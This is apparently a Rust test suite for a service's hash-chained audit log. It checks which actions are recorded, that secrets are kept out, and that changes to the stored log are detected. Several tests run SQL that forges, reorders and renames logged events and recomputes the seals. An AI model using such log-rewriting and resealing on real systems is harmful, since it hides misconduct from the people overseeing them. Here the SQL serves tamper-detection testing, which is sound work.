//! The audit log (docs/audit.md): which requests leave an event, and whether later changes of the
//! log are detected.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use farhand_domain::audit::chain::{ChainEnd, ChainEntry, Seals, seal};
use farhand_domain::hash::sha256;
use farhand_domain::time::Timestamp;
use farhand_tests::client::{PASSWORD, encoded, unique};
use farhand_tests::instance::{change_d1, change_objects, delay_alarms};
use farhand_tests::mail::{key_of, mail_to, reset_link};
use farhand_tests::people::{
    COMMANDS, GROUPS, MEMBERSHIPS, SERVERS, UNKNOWN_UUID, USERS, group_path, item_path, keys,
};
use farhand_tests::{
    Api, Dice, Events, Instance, Person, ScriptedAgent, Workspace, eventually, far_ahead, now,
};
use futures_util::future;
use serde_json::{Value, json};

use crate::api::events::commands::{id_of, path_of};
use crate::cost::d1_calls::send;

const EVENTS: &str = "/api/audit/events/";
const VERIFY: &str = "/api/audit/verify/";
const TOKENS: &str = "/api/auth/tokens/";
/// Maximum number of D1 rows that are read for each sealed event.
const SEALING_READS: i64 = 5;
const REGISTRATION_TOKENS: &str = "/api/servers/registration-tokens/";

/// All events that match a query, from all pages, oldest first.
async fn events(api: &Api, path: &str, query: &[(&str, String)]) -> Vec<Value> {
    // An event that is added between two requests moves other events to the next page. If the pages
    // do not fit together, this reads all pages again.
    eventually("consistent pages", || async {
        let found = read_pages(api, path, query).await?;
        let ids: BTreeSet<_> =
            found.iter().map(|event| event["id"].as_str().unwrap().to_owned()).collect();
        (ids.len() == found.len()).then_some(found)
    })
    .await
}

async fn read_pages(api: &Api, path: &str, query: &[(&str, String)]) -> Option<Vec<Value>> {
    let (mut found, mut page) = (Vec::new(), 1);
    loop {
        let mut query = query.to_vec();
        query.extend([("page_size", "100".to_owned()), ("page", page.to_string())]);
        let list = api.get(&format!("{path}?{}", encoded(&query))).await.expect(200);
        found.extend(list["results"].as_array().unwrap().clone());
        if list["next"].is_null() {
            found.reverse();
            return (list["count"] == found.len()).then_some(found);
        }
        page += 1;
    }
}

/// Waits until there are `number` events with the given actions, and returns them.
async fn wait_for_events(api: &Api, actions: &[&str], number: usize) -> Vec<Value> {
    eventually("the events", || async {
        let mut found = events(api, EVENTS, &[]).await;
        found.retain(|event| actions.contains(&event["action"].as_str().unwrap()));
        assert!(found.len() <= number, "{found:#?}");
        (found.len() == number).then_some(found)
    })
    .await
}

/// Verifies a whole chain, page by page, and adds up the results.
async fn verify(api: &Api, path: &str) -> Value {
    let mut found = api.post(path, &json!({})).await.expect(200);
    while let Some(next) = found["next_link"].as_i64() {
        let mut more = api.post(path, &json!({"first_link": next})).await.expect(200);
        more["links"] = json!(more["links"].as_i64().unwrap() + found["links"].as_i64().unwrap());
        found = more;
    }
    found
}

/// Waits until all events are sealed, and asserts that the chain is valid. Returns the number of
/// its entries.
async fn wait_until_sealed(api: &Api, path: &str) -> i64 {
    eventually("the seals", || async {
        let found = verify(api, path).await;
        assert_eq!(
            (&found["valid"], &found["first_broken"]),
            (&json!(true), &json!(null)),
            "{found}"
        );
        (found["unsealed"] == 0).then(|| found["links"].as_i64().unwrap())
    })
    .await
}

/// A summary of an event: `action outcome actor/credential`.
fn summary(event: &Value) -> String {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    let actor = event["actor"]["name"].as_str().or(event["actor"]["type"].as_str()).unwrap();
    let (action, outcome, credential) =
        (text(&event["action"]), text(&event["outcome"]), text(&event["credential"]["type"]));
    format!("{action} {outcome} {actor}/{credential}")
}

#[tokio::test]
async fn each_change_leaves_one_event_with_its_actor() {
    let workspace = Workspace::new().await;
    let session = workspace.session();
    let mut expected = vec![
        "workspace.create success operator/operator_token",
        "session.login success boss/session",
        "api_token.create success boss/session",
    ];

    let token = send(&session, "POST", TOKENS, json!({"name": "ci", "expires_at": null})).await;
    send(&session, "PUT", &item_path(TOKENS, &token), json!({"name": "ci-2", "expires_at": null}))
        .await;
    send(&session, "PATCH", &item_path(TOKENS, &token), json!({"enabled": false})).await;
    send(&session, "DELETE", &item_path(TOKENS, &token), Value::Null).await;
    expected.extend([
        "api_token.create success boss/session",
        "api_token.update success boss/session",
        "api_token.update success boss/session",
        "api_token.delete success boss/session",
    ]);

    let admin = &workspace.admin;
    let email = format!("{}@example.com", unique("ann"));
    let ann = json!({"username": "ann", "email": email, "password": PASSWORD});
    let ann = send(admin, "POST", USERS, ann).await;
    let path_of_ann = format!("{USERS}{}/", ann["id"]);
    send(admin, "PATCH", &path_of_ann, json!({"is_staff": true})).await;
    let other = "another correct horse";
    let as_ann = workspace.anonymous.logged_in("ann", PASSWORD).await;
    let change = json!({"password": PASSWORD, "new_password": other});
    send(&as_ann, "POST", "/api/auth/change-password/", change).await;
    send(admin, "PUT", "/api/users/users/ann/", json!({"password": PASSWORD})).await;
    let reset_request = async {
        workspace.anonymous.post("/api/auth/reset-password/", &json!({"email": email})).await
    };
    let link = reset_link(&workspace, &email, reset_request).await;
    let confirm = format!("/api/auth/reset-password/confirm/{}/", key_of(&link));
    send(&workspace.anonymous, "POST", &confirm, json!({"new_password": other})).await;
    let as_ann = workspace.anonymous.logged_in("ann", other).await;
    send(&as_ann, "POST", "/api/auth/logout/", Value::Null).await;
    let as_ann = workspace.anonymous.logged_in("ann", other).await;
    let sessions = send(&as_ann, "GET", "/api/auth/sessions/", Value::Null).await;
    send(
        &as_ann,
        "DELETE",
        &item_path("/api/auth/sessions/", &sessions["results"][0]),
        Value::Null,
    )
    .await;
    expected.extend([
        "user.create success boss/api_token",
        "user.update success boss/api_token",
        "session.login success ann/session",
        "user.change_password success ann/session",
        "user.set_password success boss/api_token",
        "user.request_reset success anonymous/-",
        "user.reset_password success ann/reset_key",
        "session.login success ann/session",
        "session.logout success ann/session",
        "session.login success ann/session",
        "session.delete success ann/session",
    ]);

    let group = send(admin, "POST", GROUPS, json!({"name": "ops"})).await;
    send(admin, "PATCH", &group_path(&group), json!({"description": "all"})).await;
    let membership = json!({"group": group["id"], "user": ann["id"], "role": "member"});
    let membership = send(admin, "POST", MEMBERSHIPS, membership).await;
    send(admin, "PATCH", &item_path(MEMBERSHIPS, &membership), json!({"role": "manager"})).await;
    send(admin, "DELETE", &item_path(MEMBERSHIPS, &membership), Value::Null).await;
    send(admin, "DELETE", &group_path(&group), Value::Null).await;
    expected.extend([
        "group.create success boss/api_token",
        "group.update success boss/api_token",
        "membership.create success boss/api_token",
        "membership.update success boss/api_token",
        "membership.delete success boss/api_token",
        "group.delete success boss/api_token",
    ]);

    let server = send(admin, "POST", "/api/servers/", json!({"name": "web-1"})).await;
    send(admin, "PATCH", &item_path(SERVERS, &server), json!({"name": "web-2"})).await;
    send(admin, "POST", &format!("{}rotate-key/", item_path(SERVERS, &server)), Value::Null).await;
    send(admin, "DELETE", &item_path(SERVERS, &server), Value::Null).await;
    send(admin, "POST", &format!("{}undelete/", item_path(SERVERS, &server)), Value::Null).await;
    let registration = send(admin, "POST", REGISTRATION_TOKENS, json!({"name": "hosts"})).await;
    let registering = workspace.anonymous.with_token(registration["key"].as_str().unwrap());
    let host = json!({"name": "host", "platform": "debian"});
    let host = send(&registering, "POST", &format!("{SERVERS}register/"), host).await;
    let agent = workspace.anonymous.with_authorization(&farhand_tests::agents::credential(&host));
    send(&agent, "DELETE", &format!("{SERVERS}-/unregister/"), Value::Null).await;
    send(admin, "DELETE", &item_path(REGISTRATION_TOKENS, &registration), Value::Null).await;
    send(admin, "DELETE", &path_of_ann, Value::Null).await;
    expected.extend([
        "server.create success boss/api_token",
        "server.update success boss/api_token",
        "server.rotate_key success boss/api_token",
        "server.delete success boss/api_token",
        "server.undelete success boss/api_token",
        "registration_token.create success boss/api_token",
        "server.register success host/registration_token",
        "server.unregister success host/agent_key",
        "registration_token.delete success boss/api_token",
        "user.delete success boss/api_token",
    ]);

    let found = events(admin, EVENTS, &[]).await;
    assert_eq!(found.iter().map(summary).collect::<Vec<_>>(), expected);
    let object = |action: &str| {
        found.iter().rfind(|event| event["action"] == action).unwrap()["object"].clone()
    };
    for (action, id, name) in [
        ("workspace.create", &json!(workspace.slug), json!(workspace.slug)),
        ("api_token.create", &token["id"], json!("ci")),
        ("api_token.delete", &token["id"], json!("ci-2")),
        ("server.delete", &server["id"], json!("web-2")),
        ("server.register", &host["id"], json!("host")),
        ("registration_token.delete", &registration["id"], json!("hosts")),
        ("group.create", &json!(group["id"].to_string()), json!("ops")),
        ("user.create", &json!(ann["id"].to_string()), json!("ann")),
        ("user.request_reset", &json!(ann["id"].to_string()), json!(null)),
        ("user.delete", &json!(ann["id"].to_string()), json!("ann")),
    ] {
        let kind = action.split('.').next().unwrap();
        assert_eq!(object(action), json!({"type": kind, "id": id, "name": name}), "{action}");
    }
    let enabled = &found[5];
    assert_eq!(enabled["details"], json!({"fields": ["enabled"]}));
    assert!(enabled["remote_ip"].is_string() && enabled["request_id"].is_string(), "{enabled}");
    assert_eq!(enabled["credential"]["id"], found[3]["credential"]["id"]);
    assert_eq!(
        keys(enabled),
        [
            "action",
            "actor",
            "credential",
            "details",
            "hash",
            "id",
            "link",
            "object",
            "occurred_at",
            "outcome",
            "remote_ip",
            "request_id"
        ]
    );
    assert_eq!(wait_until_sealed(admin, VERIFY).await, expected.len() as i64);
    // Events are listed in the order of the chain, and each has its entry.
    let links: Vec<_> = events(admin, EVENTS, &[])
        .await
        .iter()
        .map(|event| event["link"].as_i64().unwrap())
        .collect();
    assert_eq!(links, (1..=expected.len() as i64).collect::<Vec<_>>());
}

/// Changes that end the caller's own credential or permission are recorded too.
#[tokio::test]
async fn changes_that_end_the_callers_access_are_recorded() {
    let workspace = Workspace::new().await;
    let (session, admin) = (workspace.session(), &workspace.admin);
    let lists = json!({"commands": ["id"]});
    let changes = [
        ("PATCH", json!({"enabled": false})),
        ("PATCH", json!({"acl": lists})),
        ("PUT", json!({"name": "new", "expires_at": null, "enabled": false})),
        ("PUT", json!({"name": "new", "expires_at": null, "acl": lists})),
        ("DELETE", Value::Null),
    ];
    for (method, body) in changes {
        let token =
            send(&session, "POST", TOKENS, json!({"name": "self", "expires_at": null})).await;
        let own = workspace.anonymous.with_token(token["key"].as_str().unwrap());
        send(&own, method, &item_path(TOKENS, &token), body.clone()).await;
        own.get(TOKENS).await.expect(403);
        let found_events =
            events(admin, EVENTS, &[("object", token["id"].as_str().unwrap().to_owned())]).await;
        let found_events: Vec<_> = found_events
            .iter()
            .map(|event| (summary(event), event["object"]["name"].clone()))
            .collect();
        let verb = if method == "DELETE" { "delete" } else { "update" };
        let expected = [
            ("api_token.create success boss/session".to_owned(), json!("self")),
            (format!("api_token.{verb} success boss/api_token"), json!("self")),
        ];
        assert_eq!(found_events, expected, "{method} {body}");
    }

    let email = |name: &str| format!("{}@example.com", unique(name));
    for (name, change) in [
        ("ann", json!({"is_superuser": false})),
        ("bea", json!({"is_staff": false, "is_superuser": false})),
        ("cid", json!({"is_active": false})),
        ("dan", Value::Null),
    ] {
        let user = json!({
            "username": name, "email": email(name), "password": PASSWORD, "is_staff": true, "is_superuser": true,
        });
        let user = send(admin, "POST", USERS, user).await;
        let own = workspace.anonymous.logged_in(name, PASSWORD).await;
        let method = if change.is_null() { "DELETE" } else { "PATCH" };
        send(&own, method, &format!("{USERS}{}/", user["id"]), change).await;
        let verb = if method == "DELETE" { "delete" } else { "update" };
        let action = format!("user.{verb}");
        let found_events =
            events(admin, EVENTS, &[("actor", name.to_owned()), ("action", action.clone())]).await;
        assert_eq!(
            found_events.iter().map(summary).collect::<Vec<_>>(),
            [format!("{action} success {name}/session")]
        );
    }
    wait_until_sealed(admin, VERIFY).await;
}

#[tokio::test]
async fn denied_and_failed_requests_leave_events() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let server = workspace.server("web-1").await;
    let plain = Person::new(&workspace, "plain").await;
    let before = events(admin, EVENTS, &[]).await.len();

    // Invalid input, unknown ids and missing access leave no event.
    admin.post("/api/servers/", &json!({"name": "web-1"})).await.expect_fields(400, &["name"]);
    admin
        .post(USERS, &json!({"username": "plain", "email": "x@example.com", "password": PASSWORD}))
        .await
        .expect(400);
    admin.delete(&format!("{TOKENS}{UNKNOWN_UUID}/")).await.expect(404);
    admin.patch(&format!("{TOKENS}{UNKNOWN_UUID}/"), &json!({"name": "x"})).await.expect(404);
    admin.delete(&format!("/api/auth/sessions/{UNKNOWN_UUID}/")).await.expect(404);
    admin.delete(&format!("{REGISTRATION_TOKENS}{UNKNOWN_UUID}/")).await.expect(404);
    admin.post(COMMANDS, &json!({"server": "web-1", "line": "id"})).await.expect(503);
    plain.api.get(&item_path(SERVERS, &server)).await.expect(404);
    workspace.anonymous.with_token(&"A".repeat(128)).post(TOKENS, &json!({})).await.expect(403);

    workspace.anonymous.log_in("plain", "not the password").await.expect(403);
    workspace.anonymous.log_in("the password of somebody", "x").await.expect(403);
    let change = json!({"password": "not the password", "new_password": "another correct horse"});
    plain.api.post("/api/auth/change-password/", &change).await.expect(400);
    plain.api.post(USERS, &json!({})).await.expect(403);
    plain.api.get(EVENTS).await.expect(403);
    plain.api.post(VERIFY, &json!({"first_link": 0})).await.expect(403);
    admin.post("/api/auth/logout/", &json!({})).await.expect(403);
    let limited = workspace.limited(&json!({"commands": ["id"]})).await;
    for (method, path) in [("GET", EVENTS), ("POST", VERIFY), ("POST", TOKENS)] {
        limited.call(method, path).await.expect_detail(403, Some("API_TOKEN_ACL_NOT_ALLOWED"));
    }
    let refused = json!({"server": "web-1", "line": "reboot", "username": "root", "env": {"KEY": "confidential"}});
    limited.post(COMMANDS, &refused).await.expect_detail(403, Some("API_TOKEN_ACL_NOT_ALLOWED"));

    let mut found = eventually("the events", || async {
        let found = events(admin, EVENTS, &[]).await;
        // One of the events is the creation of the limited token.
        (found.len() == before + 10).then(|| found[before..].to_vec())
    })
    .await;
    let mut found_events: Vec<_> = found.iter().map(summary).collect();
    found_events.sort();
    let mut expected = [
        "api_token.create denied boss/api_token",
        "api_token.create success boss/session",
        "command.create denied boss/api_token",
        "endpoint.access denied boss/api_token",
        "endpoint.access denied plain/session",
        "session.login failure anonymous/-",
        "session.login failure anonymous/-",
        "session.logout denied boss/api_token",
        "user.change_password failure plain/session",
        "user.create denied plain/session",
    ];
    expected.sort_unstable();
    assert_eq!(found_events, expected);
    let mut take =
        |test: &dyn Fn(&Value) -> bool| found.remove(found.iter().position(test).unwrap());
    let denied = take(&|event| event["action"] == "command.create");
    assert_eq!(
        (&denied["details"]["line"], &denied["details"]["username"]),
        (&json!("reboot"), &json!("root"))
    );
    assert_eq!(denied["details"]["code"], "API_TOKEN_ACL_NOT_ALLOWED");
    let known = take(&|event| event["action"] == "session.login" && !event["object"].is_null());
    assert_eq!(
        known["object"],
        json!({"type": "user", "id": plain.id.to_string(), "name": "plain"})
    );
    let access =
        take(&|event| event["action"] == "endpoint.access" && event["actor"]["name"] == "plain");
    assert_eq!(
        (&access["object"]["id"], &access["details"]["method"]),
        (&json!(EVENTS), &json!("GET"))
    );
    assert_eq!(access["details"]["count"], 1);
    // Text in the user name field may be a password, so it is not recorded.
    let all = json!(events(admin, EVENTS, &[]).await).to_string();
    assert!(!all.contains("the password of somebody") && !all.contains("confidential"), "{all}");
    wait_until_sealed(admin, VERIFY).await;
}

/// Repeated requests must not fill the log. Refusals of another action or code have their own event,
/// those of another credential of the user have none.
#[tokio::test]
async fn a_repeated_denial_is_recorded_once_a_minute() {
    let workspace = Workspace::new().await;
    let plain = Person::new(&workspace, "plain").await;
    for _ in 0..3 {
        plain.api.get(EVENTS).await.expect(403);
        plain.api.post(VERIFY, &json!({})).await.expect(403);
        plain.api.post(USERS, &json!({})).await.expect(403);
    }
    let token = plain.with_api_token().await;
    token.post(USERS, &json!({})).await.expect(403);
    token.post(SERVERS, &json!({})).await.expect(403);
    let found = eventually("the events", || async {
        let query = [("actor", "plain".to_owned()), ("outcome", "denied".to_owned())];
        let found = events(&workspace.admin, EVENTS, &query).await;
        (found.len() >= 3).then_some(found)
    })
    .await;
    let mut found: Vec<_> = found.iter().map(summary).collect();
    found.sort();
    let expected = [
        "endpoint.access denied plain/session",
        "server.create denied plain/api_token",
        "user.create denied plain/session",
    ];
    assert_eq!(found, expected);
}

#[tokio::test]
async fn a_command_is_recorded_from_request_to_end() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let server = workspace.server("web-1").await;
    let mut agent = ScriptedAgent::connect_with_kill(&workspace, &server).await;
    let run = async |body: Value| {
        let mut whole = json!({"server": "web-1", "username": "root"});
        whole.as_object_mut().unwrap().extend(body.as_object().unwrap().clone());
        admin.post(COMMANDS, &whole).await.expect(201)
    };
    let line = "x".repeat(2_000);
    let done = run(json!({"line": line, "env": {"KEY": "confidential"}})).await;
    agent.next_command().await;
    agent.ack(id_of(&done)).await;
    agent.chunk(id_of(&done), 0, "secret output").await;
    agent.fin(id_of(&done), 3, "secret output").await;
    agent.fin(id_of(&done), 0, "late").await;
    let killed = run(json!({"line": "sleep 100"})).await;
    agent.next_command().await;
    agent.ack(id_of(&killed)).await;
    admin.post(&format!("{}kill/", path_of(&killed)), &json!({})).await.expect(202);
    agent.fin(id_of(&killed), 143, "").await;
    let cancelled = run(json!({"line": "id", "scheduled_at": far_ahead()})).await;
    admin.post(&format!("{}cancel/", path_of(&cancelled)), &json!({})).await.expect(200);
    admin.post(&format!("{}cancel/", path_of(&cancelled)), &json!({})).await.expect(200);
    let left = run(json!({"line": "id", "scheduled_at": far_ahead()})).await;
    admin.delete(&item_path(SERVERS, &server)).await.expect(204);

    let actions = ["command.create", "command.kill", "command.finish", "command.cancel"];
    let found = wait_for_events(admin, &actions, 9).await;
    let of = |command: &Value| -> Vec<String> {
        found.iter().filter(|event| event["object"]["id"] == command["id"]).map(summary).collect()
    };
    let created = "command.create success boss/api_token";
    assert_eq!(of(&done), [created, "command.finish success web-1/agent_key"]);
    let kill = "command.kill success boss/api_token";
    assert_eq!(of(&killed), [created, kill, "command.finish success web-1/agent_key"]);
    assert_eq!(of(&cancelled), [created, "command.cancel success boss/api_token"]);
    assert_eq!(of(&left), [created, "command.cancel success service/-"]);
    let details = |command: &Value, action: &str| {
        let event = found
            .iter()
            .find(|event| event["object"]["id"] == command["id"] && event["action"] == action)
            .unwrap();
        event["details"].clone()
    };
    let of_server = json!({"id": server["id"], "name": "web-1"});
    let mut create = details(&done, "command.create");
    let hmac = create["env_hmac"].take();
    assert_eq!(hmac.as_str().map(str::len), Some(64), "{hmac}");
    assert_eq!(
        create,
        json!({"server": of_server, "shell": "system", "line": "x".repeat(1_024), "line_sha256": sha256(&line),
            "line_length": 2_000, "username": "root", "groupname": "", "scheduled_at": null, "timeout": 1_800,
            "env": ["KEY"], "env_total": 1, "env_hmac": null})
    );
    let finish = details(&done, "command.finish");
    assert_eq!(
        finish,
        json!({"state": "failed", "exit_code": 3, "server": of_server, "output_bytes": 13,
            "output_sha256": sha256("secret output")})
    );
    assert!(
        details(&left, "command.cancel")["reason"].as_str().unwrap().contains("server was deleted")
    );
    let all = json!(found).to_string();
    assert!(!all.contains("confidential") && !all.contains("secret output"), "{all}");
    wait_until_sealed(admin, VERIFY).await;
}

#[tokio::test]
async fn a_filtered_list_reads_only_what_it_shows() {
    let (instance, _state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    let admin = &workspace.admin;
    for name in ["one", "two", "three"] {
        send(admin, "POST", TOKENS, json!({"name": name, "expires_at": null})).await;
    }
    let alice = workspace.staff("alice").await;
    send(&alice, "POST", "/api/servers/", json!({"name": "web-1"})).await;
    let plain = workspace.user("plain").await;
    plain.post("/api/servers/", &json!({"name": "web-2"})).await.expect(403);
    workspace.anonymous.log_in("plain", "not the password").await.expect(403);
    let all = eventually("the two events that are written after the responses", || async {
        let all = events(&alice, EVENTS, &[]).await;
        (all.iter().filter(|event| event["outcome"] != "success").count() == 2).then_some(all)
    })
    .await;
    let mut times: Vec<_> =
        all.iter().map(|event| event["occurred_at"].as_str().unwrap()).collect();
    assert!(times.is_sorted(), "{times:?}");
    times.dedup();
    let middle = times[times.len() / 2].to_owned();
    let count = |test: &dyn Fn(&Value) -> bool| all.iter().filter(|event| test(event)).count();
    let text = |value: &Value| value.as_str().unwrap_or("").to_owned();
    let object =
        text(&all.iter().find(|event| event["action"] == "server.create").unwrap()["object"]["id"]);
    let outcome = |name: &str| ("outcome", name.to_owned());
    let with = |outcome: &str| count(&|event| event["outcome"] == outcome);
    assert_eq!((with("failure"), with("denied")), (1, 1));
    let queries: [(&[(&str, String)], usize); 13] = [
        (&[], all.len()),
        (&[("actor", "alice".into())], 2),
        (&[("action", "api_token.create".into())], 4),
        (&[("object", object.clone())], 1),
        (&[("actor", "boss".into()), ("action", "api_token.create".into())], 4),
        (&[("actor", "nobody".into())], 0),
        (&[outcome("success")], with("success")),
        (&[outcome("failure")], 1),
        (&[outcome("denied")], 1),
        (&[outcome("denied"), ("actor", "plain".into())], 1),
        (&[outcome("denied"), ("actor", "alice".into())], 0),
        (
            &[("occurred_at__gte", middle.clone())],
            count(&|event| text(&event["occurred_at"]) >= middle),
        ),
        (
            &[("occurred_at__lt", middle.clone())],
            count(&|event| text(&event["occurred_at"]) < middle),
        ),
    ];
    for (query, expected) in queries {
        assert_eq!(events(&alice, EVENTS, query).await.len(), expected, "{query:?}");
    }
    let bad = format!("{EVENTS}?occurred_at__gte=today&object=%00&outcome=Denied&page=x");
    alice.get(&bad).await.expect_fields(400, &["object", "occurred_at__gte", "outcome", "page"]);
    for bad in ["", "denied,failure", "ok"] {
        alice.get(&format!("{EVENTS}?outcome={bad}")).await.expect_fields(400, &["outcome"]);
    }
    let other = Workspace::create_with(&instance.operator(), "other").await;
    let of_other = events(&other.admin, EVENTS, &[("object", object.clone())]).await;
    assert!(of_other.is_empty(), "{of_other:?}");

    // With many more events of another action and object, a page reads as many rows as before.
    wait_until_sealed(admin, VERIFY).await;
    let read = async |query: &str| {
        let id = unique("audit");
        let path = format!("{EVENTS}?page_size=2{query}");
        admin.send(admin.request("GET", &path).header("X-Request-Id", &id)).await.expect(200);
        let line = instance.request_log_line(&id).await;
        assert_eq!(line["d1_calls"], 1);
        line["rows_read"].as_u64().unwrap()
    };
    let time = |name: &str, time: &str| format!("&{}", encoded(&[(name, time.to_owned())]));
    let queries = [
        String::new(),
        "&actor=alice".to_owned(),
        "&action=server.create".to_owned(),
        format!("&object={object}"),
        "&outcome=denied".to_owned(),
        "&outcome=failure".to_owned(),
        format!("&actor=alice{}", time("occurred_at__lt", &middle)),
        time("occurred_at__lt", &middle),
        format!("{}{}", time("occurred_at__gte", times[0]), time("occurred_at__lt", &middle)),
    ];
    let mut before = Vec::new();
    for query in &queries {
        before.push(read(query).await);
    }
    let (links, seals) = (all.len(), 10);
    let id = acme_id(&instance);
    let numbers = |most: u32| {
        format!("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {most})")
    };
    let last = format!(
        "(SELECT seq, workspace_id, occurred_at FROM audit_events WHERE seq = ({id} << 40) + {links}) e"
    );
    instance.tamper_with_d1(&format!(
        "{} INSERT INTO audit_seals SELECT e.seq + 200 * i, e.workspace_id, e.seq + 200 * i - 199, e.occurred_at, e.occurred_at, ''
         FROM n CROSS JOIN {last};
         {} INSERT INTO audit_events (seq, id, workspace_id, occurred_at, actor_type, actor_name, action, object_type, object_id,
            outcome, details)
         SELECT e.seq + i, format('00000000-0000-7000-8000-%012d', i), e.workspace_id, e.occurred_at, 'user', 'many',
            'api_token.create', 'x', 'x' || i, 'success', '{{}}' FROM n CROSS JOIN {last}",
        numbers(seals),
        numbers(200 * seals)
    ));
    for (query, before) in queries.iter().zip(before) {
        // A filter by time also reads the seals since then, for `count` and for the page.
        let more = if query.starts_with("&occurred_at") { 2 * u64::from(seals) } else { 0 };
        let read = read(query).await;
        assert!((before..=before + more).contains(&read), "{query}: {read} after {before}");
    }
    let list = admin.get(EVENTS).await.expect(200);
    assert_eq!(list["count"], links as u64 + 2_000);
}

fn acme_id(instance: &Instance) -> i64 {
    instance.read_d1("SELECT CAST(id AS TEXT) FROM workspaces WHERE slug = 'acme'")[0]
        .parse()
        .unwrap()
}

/// An instance with a workspace whose chain is completely sealed, and the number of its entries.
async fn instance_with_chain() -> (Instance, tempfile::TempDir, Workspace, i64) {
    let (instance, state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    // Three events came with the workspace. The first eight events share seals, and the last four
    // have their own.
    for (tokens, links) in [(5, 8), (4, 12)] {
        for number in 0..tokens {
            let name = format!("token {number}");
            send(&workspace.admin, "POST", TOKENS, json!({"name": name, "expires_at": null})).await;
        }
        assert_eq!(wait_until_sealed(&workspace.admin, VERIFY).await, links);
    }
    let links = 12;
    // The sealer finds rows by number, so the total number of rows does not matter.
    let log = std::fs::read_to_string(instance.state.join("worker.log")).unwrap();
    let lines = log.lines().filter(|line| line.contains("\"event\":\"sealed\""));
    let lines: Vec<Value> =
        lines.map(|line| serde_json::from_str(&line[line.find('{').unwrap()..]).unwrap()).collect();
    let sum = |name: &str| lines.iter().map(|line| line[name].as_i64().unwrap()).sum::<i64>();
    let (sealed, passes) = (sum("links"), lines.len() as i64);
    assert_eq!((sum("rows_written"), sum("d1_calls")), (passes, 2 * passes));
    assert!(sum("rows_read") <= SEALING_READS * sealed + 2 * passes, "{lines:?}");
    (instance, state, workspace, links)
}

/// A page of a verification reads its own entries, two entries before them, and one behind the end
/// of the chain.
#[tokio::test]
async fn a_verification_reads_only_its_own_page() {
    let (instance, _state, workspace, last) = instance_with_chain().await;
    let (admin, first) = (&workspace.admin, last - 2);
    let read = async || {
        let id = unique("verify");
        let body = json!({"first_link": first});
        let found = admin
            .send(admin.request("POST", VERIFY).header("X-Request-Id", &id).json(&body))
            .await
            .expect(200);
        (
            found["first_broken"]["problem"].clone(),
            instance.request_log_line(&id).await["rows_read"].as_u64().unwrap(),
        )
    };
    let (problem, short) = read().await;
    assert_eq!(problem, Value::Null);
    let id = acme_id(&instance);
    let many = |link: &str| {
        format!(
            "INSERT INTO audit_expired
             WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2000)
             SELECT {id}, {link}, 1, 'x' FROM n WHERE true;"
        )
    };
    instance.tamper_with_d1(&many("-i"));
    let (problem, long) = read().await;
    assert_eq!(problem, Value::Null);
    // Two more rows, and their seals.
    assert!(long <= short + 6, "{short} {long}");
    let events = format!(
        "INSERT INTO audit_events (seq, id, workspace_id, occurred_at, actor_type, actor_name, action, outcome, details)
         WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2000)
         SELECT ({id} << 40) + {last} + i, 'x' || i, {id}, '2026', 'user', 'many', 'x', 'success', '{{}}' FROM n;
         INSERT INTO audit_seals VALUES (({id} << 40) + {last} + 2000, {id}, ({id} << 40) + {last} + 1, '2026', '2026', '');"
    );
    instance.tamper_with_d1(&(events + &many(&format!("{last} + i"))));
    let (problem, beyond) = read().await;
    assert_eq!(problem, "foreign");
    assert!(beyond <= short + 10, "{short} {beyond}");
}

/// SQL that seals all rows of a workspace again from the first on, and the resulting end of the
/// chain.
fn resealed(instance: &Instance, workspace: i64) -> (String, ChainEnd) {
    let columns = farhand_domain::audit::chain::COLUMNS.join(", ");
    let rows = instance.read_d1(&format!(
        "SELECT json_array(seq - ({workspace} << 40), NULL, json_array({columns})) FROM audit_events
         WHERE workspace_id = {workspace} ORDER BY seq"
    ));
    let rows: Vec<ChainEntry> = rows.iter().map(|row| serde_json::from_str(row).unwrap()).collect();
    let (seals, head) = seal(workspace, &ChainEnd::default(), &rows).unwrap();
    let Seals { first, last, earliest, latest, hashes } = seals;
    let sql = format!(
        "DELETE FROM audit_seals WHERE workspace_id = {workspace};
         INSERT INTO audit_seals VALUES (
            ({workspace} << 40) + {last}, {workspace}, ({workspace} << 40) + {first}, '{earliest}', '{latest}', '{hashes}');"
    );
    (sql, head)
}

#[tokio::test]
async fn every_change_of_the_stored_log_is_detected() {
    let (instance, _state, workspace, last) = instance_with_chain().await;
    let admin = &workspace.admin;
    let id = acme_id(&instance);
    let of = format!("seq - ({id} << 40)");
    instance.tamper_with_d1(
        "CREATE TABLE kept AS SELECT * FROM audit_events; CREATE TABLE kept_seals AS SELECT * FROM audit_seals",
    );
    // Inserts a copy of the third event at another position, and moves existing rows out of its
    // way.
    let copied = |link: i64| {
        format!(
            "UPDATE audit_events SET seq = seq + 1000000 WHERE workspace_id = {id} AND {of} >= {link};
             UPDATE audit_events SET seq = seq - 999999 WHERE workspace_id = {id} AND {of} >= 1000000;
             INSERT INTO audit_events SELECT ({id} << 40) + {link}, k.id, k.workspace_id, k.occurred_at,
                k.actor_type, k.actor_id, k.actor_name, k.credential_type, k.credential_id, k.action, k.object_type,
                k.object_id, k.object_name, k.outcome, k.remote_ip, k.request_id, k.details FROM kept k WHERE k.{of} = 3"
        )
    };
    let seal_of = |link: i64| {
        format!("last = (SELECT min(last) FROM kept_seals WHERE last >= ({id} << 40) + {link})")
    };
    let first_of = |link: i64| {
        let sql = format!(
            "SELECT CAST(first - ({id} << 40) AS TEXT) FROM audit_seals WHERE {}",
            seal_of(link)
        );
        instance.read_d1(&sql)[0].parse::<i64>().unwrap()
    };
    let change_seal = |change: &str, link: i64| {
        format!("UPDATE audit_seals SET {change} WHERE {}", seal_of(link))
    };
    let changed_hash = format!(
        "hashes = substr(hashes, 1, 64 * (({id} << 40) + 7 - first)) || 'x' || substr(hashes, 64 * (({id} << 40) + 7 - first) + 2)"
    );
    let cases: Vec<(&str, String, i64, &str)> = vec![
        ("a name is changed", format!("UPDATE audit_events SET actor_name = 'eve' WHERE {of} = 4"), 4, "altered"),
